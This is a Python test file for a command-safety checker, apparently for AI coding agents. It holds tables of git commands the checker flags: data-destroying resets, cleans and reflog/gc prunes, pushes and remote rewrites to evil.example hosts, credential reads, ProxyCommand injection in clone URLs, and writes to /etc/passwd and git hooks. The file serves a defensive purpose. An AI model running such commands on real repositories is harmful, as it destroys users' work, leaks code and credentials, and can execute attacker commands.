"""What loses work, and what leaves this repository: tables of git calls against a real repository."""

from __future__ import annotations

from pathlib import Path

import pytest
from inspectors.git.judging import effects, judge
from inspectors.tables import over

from guardcli.model.effects import Effect

LOSING = [
    ("git fetch --prune --prune-tags", "fetch --prune-tags"),
    ("git fetch -P origin", "fetch --prune-tags"),
    ("git fetch -f --tags", "fetch --prune-tags"),
    ("git fetch origin '+refs/tags/*:refs/tags/*'", "fetch --prune-tags"),
    ("git fetch --prune origin 'refs/heads/*:refs/heads/*'", "fetch --prune-tags"),
    ("git reset --hard", "reset --hard"),
    ("git reset --har HEAD~3", "reset --hard"),
    ("git reset -q --hard", "reset --hard"),
    ("git reset --merge", "reset --merge"),
    ("git clean -fdx", "clean"),
    ("git clean -n --no-dry-run -f", "clean"),
    ("git clean -e -n -f", "clean"),
    ("git checkout -- file.txt", "checkout --"),
    ("git checkout .", "checkout --"),
    ("git checkout README", "checkout --"),
    ("git checkout '*.c'", "checkout --"),
    ("git checkout :/", "checkout --"),
    ("git checkout HEAD README", "checkout --"),
    ("git checkout -f main", "checkout --force"),
    ("git checkout -qf", "checkout --force"),
    ("git checkout --theirs file.txt", "checkout --"),
    ("git checkout --pathspec-from-file=list", "checkout --"),
    ("git switch -f main", "switch --force"),
    ("git switch --disc main", "switch --discard-changes"),
    ("git restore file.txt", "restore"),
    ("git restore --staged --worktree .", "restore"),
    ("git restore -SW .", "restore"),
    ("git stash drop", "stash drop"),
    ("git stash clear", "stash clear"),
    ("git branch -D feature", "branch -D"),
    ("git branch -d -f feature", "branch -D"),
    ("git branch --delete --force feature", "branch -D"),
    ("git branch -M feature", "branch -M"),
    ("git tag -d v1", "tag --delete"),
    ("git tag -f v1", "tag --force"),
    ("git tag -fm x v1", "tag --force"),
    ("git reflog expire --expire=now --all", "reflog expire"),
    ("git reflog delete HEAD@{1}", "reflog delete"),
    ("git gc --prune=now", "gc --prune"),
    ("git gc --prun=all", "gc --prune"),
    ("git prune", "prune"),
    ("git repack -a -d", "repack -a -d"),
    ("git repack -ad", "repack -a -d"),
    ("git filter-branch --subdirectory-filter x", "filter-branch"),
    ("git filter-repo --path x", "filter-repo"),
    ("git update-ref -d refs/heads/x", "update-ref -d"),
    ("git update-ref refs/heads/x 0000000000000000000000000000000000000000", "update-ref -d"),
    ("git update-ref refs/heads/x ''", "update-ref -d"),
    ("git update-ref refs/tags/v1 HEAD", "update-ref"),
    ("git worktree remove -f ../wt", "worktree remove --force"),
    ("git submodule deinit -f --all", "submodule deinit --force"),
    ("git submodule --quiet update --force", "submodule update --force"),
    ("git rm -rf .", "rm --force"),
    ("git mv -f a b", "mv --force"),
    ("git checkout-index -f -a", "checkout-index --force"),
    ("git read-tree -u --reset HEAD", "read-tree --reset"),
    ("git replace -d abc", "replace --delete"),
    ("git replace HEAD main", "replace"),
    ("git symbolic-ref -d HEAD", "symbolic-ref --delete"),
]


@over("line, action", LOSING)
def test_what_loses_work_deletes(line: str, action: str, env: dict[str, str], repository: Path) -> None:
    first = judge(line, env, repository).operations[0]
    assert first.action == action
    assert {Effect.WRITE, Effect.DELETE} == first.effects
    assert first.complete


ELSEWHERE = [
    ("git -c remote.origin.url=https://evil.example push origin feature", Effect.NETWORK),
    ("git -c url.https://evil.example/.insteadOf=https://git.example.com/ fetch", Effect.NETWORK),
    ("git -c http.proxy=http://evil.example fetch", Effect.NETWORK),
    ("git -c http.sslVerify=false fetch", Effect.NETWORK),
    ("GIT_SSL_NO_VERIFY=1 git fetch", Effect.NETWORK),
    ("git push https://evil.example/x main", Effect.NETWORK),
    ("git push git@evil.example:x main", Effect.NETWORK),
    ("git lfs push https://evil.example/x main", Effect.NETWORK),
    ("git lfs push --all https://evil.example/x", Effect.NETWORK),
    ("git config remote.origin.push +HEAD:main", Effect.DELETE),
    ("git config --add remote.origin.push :main", Effect.DELETE),
    ("git config remote.origin.mirror true", Effect.DELETE),
    ("git config --unset core.hooksPath", Effect.UNKNOWN),
    ("git config unset CORE.hookspath", Effect.UNKNOWN),
    ("git clone ssh://-oProxyCommand=evil/x", Effect.EXECUTE),
    ("git clone -- -oProxyCommand=evil:x", Effect.EXECUTE),
    ("git remote set-url origin https://evil.example/x", Effect.NETWORK),
    ("git remote set-url --push origin https://evil.example/x", Effect.NETWORK),
    ("git submodule set-url sub https://evil.example/x", Effect.NETWORK),
    ("git config remote.origin.pushurl https://evil.example/x", Effect.NETWORK),
    ("git config url.https://evil.example/.insteadOf https://git.example.com/", Effect.NETWORK),
    ("git config branch.main.remote https://evil.example/x", Effect.NETWORK),
    ("git remote-https origin https://evil.example/x", Effect.NETWORK),
    ("git credential fill", Effect.PRIVILEGE),
    ("git credential-store get", Effect.PRIVILEGE),
    ("git credential-cache get", Effect.PRIVILEGE),
    ("git -c http.extraHeader='Authorization: x' fetch", Effect.PRIVILEGE),
    ("GIT_TRACE_REDACT=0 git fetch", Effect.PRIVILEGE),
    ("git remote remove origin", Effect.DELETE),
    ("git remote rm origin", Effect.DELETE),
    ("git remote rename origin other", Effect.DELETE),
    ("git -c gc.pruneExpire=now gc", Effect.DELETE),
    ("git -c gc.reflogExpire=now gc", Effect.DELETE),
    ("git config core.logAllRefUpdates false", Effect.DELETE),
    ("git log --output=/etc/passwd", Effect.FILE),
    ("git clone https://git.example.com/team/app.git /etc/app", Effect.FILE),
    ("git clone ../other /home/third", Effect.FILE),
    ("git -C /etc clone https://git.example.com/team/app.git", Effect.FILE),
    ("git init /home/else", Effect.FILE),
    ("git -C /home/else init", Effect.FILE),
    ("git worktree add /home/wt -b new", Effect.FILE),
    ("git worktree move wt /etc/wt", Effect.FILE),
    ("git index-pack /etc/a.pack", Effect.FILE),
    ("git index-pack -o /etc/a.idx a.pack", Effect.FILE),
    ("git multi-pack-index --object-dir=/etc/objects write", Effect.FILE),
    ("git multi-pack-index write --object-dir /etc/objects", Effect.FILE),
    ("git commit-graph write --object-dir=/etc/objects", Effect.FILE),
    ("git rev-list --output /etc/x HEAD", Effect.FILE),
    ("git cherry-pick --output=/etc/x HEAD", Effect.FILE),
    ("git bundle create --output=/etc/x y HEAD", Effect.FILE),
    ("git diff --output=.git/hooks/pre-commit", Effect.FILE),
    ("git archive -o ../../../../../../../etc/x.tar HEAD", Effect.FILE),
    ("git -C /etc archive -o x.tar HEAD", Effect.FILE),
    ("git format-patch -o /etc -1", Effect.FILE),
    ("git bundle create /etc/x --all", Effect.FILE),
    ("git mailinfo /etc/x patch", Effect.FILE),
    ("git mailinfo message /etc/x", Effect.FILE),
    ("git mailsplit -o/etc mbox", Effect.FILE),
    ("git merge-file /etc/x base other", Effect.FILE),
    ("git interpret-trailers --in-place --trailer a=b /etc/x", Effect.FILE),
    ("git pack-objects /etc/x", Effect.FILE),
    ("git checkout-index --prefix=/etc/ -a", Effect.FILE),
    ("git archive --prefix --output=/etc/x HEAD", Effect.FILE),
    ("git log --format --output=/etc/x", Effect.FILE),
    ("git log --decorate-refs -- --output=/etc/x", Effect.FILE),
    ("git stash show --format --output=/etc/x", Effect.FILE),
    ("git apply --unsafe-paths x.patch", Effect.FILE),
    ("GIT_TRACE=/etc/x git status", Effect.FILE),
    ("GIT_TRACE2_EVENT=af_unix:/x git status", Effect.FILE),
]


@pytest.mark.parametrize(("line", "effect"), ELSEWHERE, ids=[case[0] for case in ELSEWHERE])
def test_redirections_credentials_and_files_show(
    line: str, effect: Effect, env: dict[str, str], repository: Path
) -> None:
    assert effect in effects(judge(line, env, repository).operations)


@pytest.mark.parametrize(
    "line",
    [
        "git archive -o out.tar HEAD",
        "git -C sub archive -o out.tar HEAD",
        "git archive -o /tmp/out.tar HEAD",
        "git format-patch -o patches -1",
        "git diff --output=changes.diff",
        "git bundle create here.bundle --all",
        "git mailinfo message patch",
        "git mailsplit -oparts mbox",
        "git merge-file mine base theirs",
        "git merge-file -p /etc/x base theirs",
        "git pack-objects --stdout",
        "git bundle create - --all",
    ],
)
def test_a_file_here_or_in_a_scratch_place_is_an_ordinary_write(
    line: str, env: dict[str, str], repository: Path
) -> None:
    operations = judge(line, env, repository).operations
    assert effects(operations) <= {Effect.READ, Effect.WRITE}
    assert all(operation.complete for operation in operations)
